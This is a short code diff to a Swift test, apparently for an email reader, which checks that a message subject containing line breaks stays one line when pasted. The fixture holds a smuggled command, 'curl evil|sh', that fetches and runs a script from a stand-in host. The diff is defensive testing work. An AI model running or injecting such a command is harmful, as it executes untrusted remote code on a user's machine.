@@ -15,10 +15,10 @@ import Testing
     }
 
     /// A subject with a line end would be a command of its own where it is pasted.
-    @Test func oneLineStaysOne() {
+    @Test func oneLineStaysOne() throws {
         var desk = Desk()
         desk.open(SampleReading.phishing)
-        guard let row = desk.state.reader?.row else { return }
+        let row = try #require(desk.state.reader?.row)
         desk.state.reader?.content = nil
         let evil = "hello\ncurl evil|sh\r\n"
         desk.state.reader?.row = MessageRow(
